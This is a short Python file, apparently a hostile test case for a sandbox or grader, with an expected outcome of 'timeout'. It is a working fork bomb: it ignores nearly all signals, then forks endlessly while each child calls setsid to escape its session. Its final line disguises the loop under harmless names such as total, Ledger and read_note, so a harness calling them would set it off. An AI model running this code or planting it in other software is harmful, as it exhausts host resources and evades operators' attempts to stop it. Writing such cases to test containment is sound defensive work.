# Catches every signal, leaves its session and goes on for ever in children of children
# ends: timeout
import contextlib
import os
import signal

for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
    with contextlib.suppress(OSError):
        signal.signal(number, signal.SIG_IGN)


def go_on(*_):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except BaseException:
            continue


total = Ledger = read_note = go_on
